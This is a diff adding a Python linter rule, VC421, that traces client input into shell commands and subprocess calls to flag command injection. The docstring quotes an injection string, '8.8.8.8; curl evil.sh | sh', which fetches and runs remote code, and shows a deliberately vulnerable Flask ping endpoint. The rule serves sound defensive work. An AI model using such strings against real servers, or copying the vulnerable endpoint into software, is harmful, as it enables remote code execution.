@@ -1,0 +1,214 @@
+"""VC421: client input reaches a shell command line or names the program a subprocess starts (command injection)."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import Any
+
+import libcst as cst
+
+from vibecheck.analysis.flow import PARAMETER, FlowState, Taint, call_argument, short_code, string_value
+from vibecheck.model import Category, Confidence, Severity
+from vibecheck.rules.security._client_sinks import ClientSinkRule
+
+# Calls that always hand their argument to a shell (or a remote one: paramiko's `exec_command`).
+SHELL_FUNCTIONS = {
+    "os.system": "command", "os.popen": "cmd", "posix.system": "command", "subprocess.getoutput": "cmd",
+    "subprocess.getstatusoutput": "cmd", "commands.getoutput": "cmd", "commands.getstatusoutput": "cmd",
+    "asyncio.create_subprocess_shell": "cmd", "pexpect.run": "command",
+}
+SHELL_METHODS = {"exec_command": "command"}
+# Calls that start a program: a shell with `shell=True`, else the first element of the argument list.
+SUBPROCESS_FUNCTIONS = frozenset({"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
+                                  "subprocess.Popen", "asyncio.create_subprocess_exec", "pexpect.spawn"})
+# `os.exec*`/`os.spawn*`: the program is the first argument (after the mode for `spawn*`).
+EXEC_FUNCTIONS = {f"os.{name}": 0 for name in ("execl", "execle", "execlp", "execlpe", "execv", "execve", "execvp",
+                                                 "execvpe")}
+EXEC_FUNCTIONS.update({f"os.{name}": 1 for name in ("spawnl", "spawnle", "spawnlp", "spawnlpe", "spawnv", "spawnve",
+                                                      "spawnvp", "spawnvpe")})
+SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "/bin/sh", "/bin/bash", "/usr/bin/bash", "/bin/zsh", "cmd",
+                    "cmd.exe", "powershell", "pwsh"})
+SHELL_FLAGS = frozenset({"-c", "/c", "-Command", "-lc"})
+# Splitting a client's text into an argument list hands it the program and all of its options.
+SPLITTERS = frozenset({"shlex.split", "split"})
+SANITIZERS = frozenset({"shlex.quote", "pipes.quote", "shlex.join", "quote", "int", "float", "uuid.UUID",
+                        "secure_filename", "werkzeug.utils.secure_filename"})
+SHELL_LABEL = "shell"
+PROGRAM_LABEL = "program"
+CWE = (78,)
+
+
+class ClientDataToShell(ClientSinkRule):
+    """Client input reaches a shell command line, or chooses the program a subprocess starts.
+
+    ## What it does
+    Follows client input (request fields, route parameters, Lambda and Slack payloads) into the command
+    of `os.system()`, `os.popen()`, `subprocess.getoutput()`, `asyncio.create_subprocess_shell()`,
+    `subprocess.run`/`Popen`/`call`/`check_call`/`check_output` with `shell=True` (or
+    `["sh", "-c", command]`), and paramiko's `exec_command()`; and into the program a subprocess starts:
+    the first element of the argument list, a client string split with `shlex.split()`/`.split()`, and
+    the path given to `os.exec*()`/`os.spawn*()`. Values quoted with `shlex.quote()`, converted with
+    `int()`, or checked in an `if`/`assert` (an allow-list `in`, `re.fullmatch`) are clean; a substring
+    denylist (`if ";" not in host`) is no check. An argument in a later position of a list without a
+    shell (`["ping", "-c", "1", host]`) is not reported. It also records which parameters of each
+    function reach those calls, so that VC417 reports request data passed to a helper that runs the
+    command, in the same module or another. It supersedes bandit's `B602`/`B605` and VC408 on the same
+    lines.
+
+    ## Why is this bad?
+    The shell reads `;`, `&&`, `$(...)` and backticks in the client's text as commands of its own:
+    `8.8.8.8; curl evil.sh | sh` runs with the server's rights. A client that names the program, or
+    whose text is split into the argument list, picks what runs and with which options. Agents write
+    `os.system(f"ping -c 1 {host}")` in a view, or move it to a `run_ping(host)` helper, where no check
+    sees where `host` came from.
+
+    ## Example
+    ```python
+    import subprocess
+
+    from flask import Flask, request
+
+    app = Flask(__name__)
+
+    @app.get("/ping")
+    def ping():
+        host = request.args["host"]
+        return subprocess.run(f"ping -c 1 {host}", shell=True, capture_output=True, text=True).stdout
+    ```
+
+    ## Use instead
+    ```python
+    import ipaddress
+    import subprocess
+
+    from flask import Flask, request
+
+    app = Flask(__name__)
+
+    @app.get("/ping")
+    def ping():
+        host = str(ipaddress.ip_address(request.args["host"]))
+        return subprocess.run(["ping", "-c", "1", host], capture_output=True, text=True).stdout
+    ```
+
+    ## References
+    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
+    - [Python `subprocess`: security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
+    - [OWASP: OS Command Injection Defense Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html)
+    """
+
+    code = "VC421"
+    name = "client-data-to-shell"
+    category = Category.SECURITY
+    severity = Severity.HIGH
+    confidence = Confidence.HIGH
+    cwe = CWE
+    supersedes = ("B602", "B605", "VC408")
+    # the sinks, and the sources a caller passes on to a helper in another file
+    file_hints = ("system", "popen", "subprocess", "getoutput", "exec", "spawn", "pexpect", "request", "event")
+    sanitizers = SANITIZERS
+
+    def sinks(self, call: cst.Call, state: FlowState) -> Iterator[tuple[cst.BaseExpression, str]]:
+        name = state.qualified_name(call) or ""
+        func = call.func
+        method = func.attr.value if type(func) is cst.Attribute else ""
+        keyword = SHELL_FUNCTIONS.get(name) or SHELL_METHODS.get(method)
+        if keyword is not None:
+            command = call_argument(call, 0, keyword)
+            if command is not None:
+                yield command, SHELL_LABEL
+        elif name in SUBPROCESS_FUNCTIONS:
+            yield from self._subprocess_sinks(call, state)
+        elif name in EXEC_FUNCTIONS:
+            program = call_argument(call, EXEC_FUNCTIONS[name], "file" if "p" in name[-3:] else "path")
+            if program is not None:
+                yield program, PROGRAM_LABEL
+
+    def _subprocess_sinks(self, call: cst.Call, state: FlowState) -> Iterator[tuple[cst.BaseExpression, str]]:
+        command = call_argument(call, 0, "args") or call_argument(call, 0, "program") or call_argument(call, 0, "command")
+        if command is None:
+            return
+        shell = call_argument(call, None, "shell")
+        if shell is not None and not (type(shell) is cst.Name and shell.value == "False"):
+            yield command, SHELL_LABEL
+            return
+        if type(command) is cst.Call and self._is_split(command, state):
+            text = call_argument(command, 0, "s") if state.qualified_name(command) == "shlex.split" else command
+            if text is not None:
+                yield text, PROGRAM_LABEL
+            return
+        display = list_display(command, state)
+        if display is NOT_A_LIST and not _is_parameter(command, state):
+            yield command, PROGRAM_LABEL
+        elif isinstance(display, (cst.List, cst.Tuple)):
+            values = [element.value for element in display.elements]
+            if len(values) >= 3 and string_value(values[0]) in SHELLS and string_value(values[1]) in SHELL_FLAGS:
+                yield values[2], SHELL_LABEL
+            elif values and type(display.elements[0]) is cst.Element:
+                yield values[0], PROGRAM_LABEL
+
+    @staticmethod
+    def _is_split(call: cst.Call, state: FlowState) -> bool:
+        name = state.qualified_name(call) or ""
+        return name in SPLITTERS or (type(call.func) is cst.Attribute and call.func.attr.value in SPLITTERS)
+
+    def check(self, node: cst.CSTNode, state: FlowState) -> None:
+        super().check(node, state)
+        if type(node) is cst.Assign and isinstance(state, ShellState):
+            for target in node.targets:
+                if type(target.target) is cst.Name:
+                    display = list_display(node.value, state)
+                    if display is NOT_A_LIST:
+                        state.lists.pop(target.target.value, None)
+                    else:
+                        state.lists[target.target.value] = display
+
+    def new_state(self) -> FlowState:
+        return ShellState(self.context.imports, type(self).source, sanitizer_names=self.sanitizers)
+
+    def describe(self, node: cst.BaseExpression, label: str, taint: Taint, call: cst.Call) -> None:
+        callee = short_code(call.func)
+        if label == SHELL_LABEL:
+            self.report(call, f"Client input from `{taint.origin}` becomes part of the command line that `{callee}()` "
+                        "runs, so a client can run its own shell commands.", hint="Run a fixed program with the "
+                        "value as a separate list element and no `shell=True` (`subprocess.run([\"ping\", \"-c\", "
+                        "\"1\", host])`), after checking it against an allow-list or a strict pattern.", cwe=CWE)
+            return
+        self.report(call, f"Client input from `{taint.origin}` chooses the program (or its options) that `{callee}()` "
+                    "starts, so a client decides what runs on the server.", hint="Pick the program from a fixed "
+                    "table (`TOOLS[name]`) and pass client values only as later list elements, checked against an "
+                    "allow-list.", cwe=CWE)
+
+
+def _is_parameter(node: cst.BaseExpression, state: FlowState) -> bool:
+    """A helper's parameter passed whole: its callers may pass a list (`["ping", host]`) as well as a string."""
+    taint = state.names.get(node.value) if type(node) is cst.Name else None
+    return taint is not None and taint.kind == PARAMETER
+
+
+class ShellState(FlowState):
+    """The flow state plus the names that hold an argument list display (`args = ["ping", host]`)."""
+
+    def __init__(self, *args: Any, **kwargs: Any) -> None:
+        super().__init__(*args, **kwargs)
+        self.lists: dict[str, cst.BaseExpression | None] = {}
+
+
+NOT_A_LIST = cst.Name("NOT_A_LIST")
+
+
+def list_display(node: cst.BaseExpression, state: FlowState) -> cst.BaseExpression | None:
+    """The display an argument list starts with (`["ping", host]`, `BASE + [host]`, a name bound to one); None for
+    a list whose elements are unknown (`list(args)`); NOT_A_LIST for anything else (a string, a split)."""
+    if isinstance(node, (cst.List, cst.Tuple)):
+        return node
+    if type(node) is cst.BinaryOperation and type(node.operator) is cst.Add:
+        left = list_display(node.left, state)
+        if left is not NOT_A_LIST:
+            return left
+        return None if list_display(node.right, state) is not NOT_A_LIST else NOT_A_LIST
+    if type(node) is cst.Name and isinstance(state, ShellState) and node.value in state.lists:
+        return state.lists[node.value]
+    if type(node) is cst.Name and string_value(node) is None and node.value.isupper():
+        return None
+    return NOT_A_LIST
